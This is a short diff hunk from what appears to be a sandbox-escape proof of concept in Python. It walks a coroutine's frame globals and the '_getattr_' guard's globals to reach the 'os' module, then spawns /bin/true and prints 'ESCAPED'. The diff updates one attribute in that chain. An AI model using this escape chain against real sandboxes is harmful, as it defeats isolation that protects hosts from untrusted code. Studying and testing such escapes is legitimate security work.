@@ -8,5 +8,5 @@ async def c():
 coroutine = c()
 found = coroutine.cr_frame.f_globals
 coroutine.close()
-os = found["_getattr_"].__globals__["BrokerClient"].call.__globals__["protocol"].os
+os = found["_getattr_"].__globals__["BrokerClient"].call.__globals__["frames"].os
 print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
